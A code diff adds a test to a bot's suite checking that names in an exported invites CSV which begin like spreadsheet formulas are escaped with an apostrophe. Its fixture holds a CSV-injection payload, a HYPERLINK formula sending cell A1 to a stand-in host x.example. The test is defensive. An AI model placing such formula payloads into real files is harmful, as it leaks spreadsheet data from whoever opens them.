@@ -37,6 +37,21 @@ async def test_invite_sends_a_csv_of_waiting_signatories_with_codes_and_the_join
         await bot.close()
 
 
+async def test_invite_csv_keeps_a_name_that_looks_like_a_formula_as_text(bot: ConsoleBot, tmp_path: Path) -> None:
+    # A signature is typed by anyone; the mail merge opens this file in a spreadsheet.
+    sheet = 'name,email\n"=HYPERLINK(""http://x.example/?""&A1,""hi"")",a@example.org\n+Sam,b@example.org\n'
+    await upload(bot, tmp_path, sheet.encode())
+    rows = list(csv.DictReader(io.StringIO((await invite_codes_file(bot)).decode("utf-8-sig"))))
+    assert sorted(row["name"] for row in rows) == ["'+Sam", '\'=HYPERLINK("http://x.example/?"&A1,"hi")']
+    assert all(row["first_message"].startswith("!iam ") for row in rows)
+
+
+async def invite_codes_file(bot: ConsoleBot) -> bytes:
+    bot.dm()
+    await bot.say("you", "signatures invite")
+    return bot.console.files["invites.csv"]
+
+
 async def test_iam_with_a_code_links_once_and_fills_only_empty_profile_fields(bot: ConsoleBot, tmp_path: Path) -> None:
     await upload(bot, tmp_path, CSV.encode())
     code = (await invite_codes(bot))["dana@example.org"]
